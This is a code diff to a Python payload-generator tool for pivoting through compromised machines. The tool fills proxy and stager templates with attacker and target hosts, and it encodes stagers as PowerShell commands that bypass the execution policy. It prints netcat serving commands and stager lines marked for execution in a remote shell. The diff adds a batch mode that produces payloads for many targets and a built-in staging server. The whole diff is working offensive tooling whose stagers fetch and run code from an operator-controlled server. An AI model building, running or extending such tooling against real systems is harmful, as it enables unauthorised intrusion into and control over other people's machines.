@@ -1,10 +1,15 @@
 #! /usr/bin/env python3
 
 import os
+import sys
 import gzip
 import base64
 import options
 import argparse
+import generator
+
+# Templates are parsed once per process and shared by every payload
+GENERATOR = generator.Generator()
 
 ############################
 ### FUNCTION DEFINITIONS ###
@@ -19,66 +24,59 @@ def display_banner() -> None:
 
 def generate_proxy_payload(args: argparse.Namespace, proxy_path: str="") -> str:
     '''Return a proxy with updated placeholders'''
-    # Read the appropriate proxy
-    if not proxy_path:
-        proxy_path = os.path.join(
-            os.path.dirname(__file__),
-            "proxies",
-            args.type,
-            f"{args.type}.{args.lang}"
-        )
-    code = read_file(proxy_path)
-    # Replace placeholders with option values
-    placeholders = [
-        ["{{LHOST}}", args.lhost],
-        ["{{LPORT}}", args.lport],
-        ["{{RHOST}}", args.rhost],
-        ["{{RPORT}}", args.rport],
-        ["{{CHOST}}", args.chost],
-        ["{{CPORT}}", args.cport]
-    ]
-    for plc, val in placeholders:
-        if val:
-            if plc in code:
-                code = code.replace(plc, val)
-    return code
+    # Options the command line did not set fall back to the generator's defaults
+    settings = {k: v for k, v in vars(args).items() if k not in ("type", "lang")}
+    if proxy_path:
+        return GENERATOR.render(proxy_path, GENERATOR.settings(args.type, settings))
+    return GENERATOR.proxy(args.type, args.lang, **settings).code
 
 def generate_stager_payload(args: argparse.Namespace, size: str="") -> str:
     '''Return a stager payload with updated placeholders'''
-    stager_path = os.path.join(
-        os.path.dirname(__file__),
-        "stagers",
-        args.delivery,
-        f"{args.stager}.{args.lang}"
-    )
-    stager_code = read_file(stager_path)
     # Get URI if applicable
     if "outfile" in args:
         uri = os.path.basename(args.outfile)
     else:
         uri = ""
-    # Update placeholders
-    placeholders = [
-        ["{{SERVER_IP}}", args.server_ip],
-        ["{{SERVER_PORT}}", args.server_port],
-        ["{{URI}}", uri],
-        ["{{PAYLOAD_SIZE}}", size]
-    ]
-    for plc, val in placeholders:
-        if val:
-            stager_code = stager_code.replace(plc, val)
-    if args.lang == "ps1":
-        stager_code = powershell_encode(stager_code)
-    return stager_code
+    payload = GENERATOR.stager(
+        args.delivery,
+        args.stager,
+        args.lang,
+        server_ip=getattr(args, "server_ip", None),
+        server_port=getattr(args, "server_port", None),
+        uri=uri,
+        payload_size=size
+    )
+    return payload.code
 
 def powershell_encode(code: str) -> str:
     '''Encode the stager for powershell execution'''
-    enc = code.encode("utf-16-le")
-    if enc.startswith(b"\xff\xfe"):
-        enc = enc[2:]
-    encoded = base64.b64encode(enc).decode("utf-8")
-    cmd = f"powershell.exe -ep bypass -EncodedCommand {encoded}"
-    return cmd
+    return GENERATOR.powershell(code)
+
+def generate_batch(args: argparse.Namespace) -> None:
+    '''Write a matrix of payloads and print where they went'''
+    settings = {}
+    for name in ["lhost", "lport", "chost", "cport", "server_ip", "server_port"]:
+        if getattr(args, name) is not None:
+            settings[name] = getattr(args, name)
+    targets = [{"name": f"{host}_{port}", "rhost": host, "rport": port} for host, port in args.targets]
+    manifest = GENERATOR.batch(
+        args.outdir,
+        args.types,
+        args.langs,
+        args.deliveries,
+        targets,
+        args.jobs,
+        **settings
+    )
+    variants = manifest["variants"]
+    failed = [v for v in variants if "error" in v]
+    for variant in failed:
+        print(f"{variant['id']}: {variant['error']}")
+    print_msg(
+        f"{len(variants) - len(failed)} of {len(variants)} variants written to "
+        f"{os.path.abspath(args.outdir)} in {manifest['seconds']}s",
+        "Batch"
+    )
 
 def write_file(path: str, content: str) -> None:
     '''Write a text file'''
@@ -110,19 +108,14 @@ if __name__ == "__main__":
     display_banner()
 
     # Parse options
-    opts = options.Options()
+    opts = options.Options(GENERATOR.registry)
     args = opts.args
-    
-    # Initialize some arguments that may not always appear
-    if "chost" not in args:
-        args.chost = None
-    if "cport" not in args:
-        args.cport = None
-    if "server_ip" not in args:
-        args.server_ip = None
-    if "server_port" not in args:
-        args.server_port = None
 
+    # Batch mode writes many payloads and stops there
+    if args.type == "batch":
+        generate_batch(args)
+        sys.exit()
+    
     # Get proxy code
     proxy_code = generate_proxy_payload(args)
 
@@ -173,10 +166,11 @@ if __name__ == "__main__":
             f"{args.type} tcp proxy written to {outfile_path}",
             "Proxy File"
         )
-        print_msg(
-            f"python3 -m http.server {args.server_port}",
-            "Serve Proxy Via Web Server"
-        )
+        if not args.serve:
+            print_msg(
+                f"python3 -m http.server {args.server_port}",
+                "Serve Proxy Via Web Server"
+            )
         print_msg(
             f"{http_stager}",
             "Execute in Remote Shell"
@@ -184,16 +178,19 @@ if __name__ == "__main__":
 
     # TCP Delivery
     elif args.delivery == "tcp":
-        tcp_stager = generate_stager_payload(args, str(len(proxy_code)))
+        # Stagers count bytes, not characters
+        size = len(proxy_code.encode("utf-8"))
+        tcp_stager = generate_stager_payload(args, str(size))
         write_file(outfile_path, proxy_code)
         print_msg(
             f"{args.type} tcp proxy written to {outfile_path}",
             "Proxy File"
         )
-        print_msg(
-            f"nc -lvnp {args.server_port} <{outfile_path}",
-            "Serve Proxy Via Netcat"
-        )
+        if not args.serve:
+            print_msg(
+                f"nc -lvnp {args.server_port} <{outfile_path}",
+                "Serve Proxy Via Netcat"
+            )
         print_msg(
             f"{tcp_stager}",
             "Execute in Remote Shell"
@@ -218,3 +215,15 @@ if __name__ == "__main__":
 
     # Print a trailing newline
     print()
+
+    # Staging Server
+    if "serve" in args and args.serve:
+        # asyncio is slow to import, so only load the server when serving
+        import server
+        stgsrv = server.StagingServer(
+            "0.0.0.0",
+            int(args.server_port),
+            {os.path.basename(outfile_path): proxy_code},
+            args.delivery
+        )
+        stgsrv.start()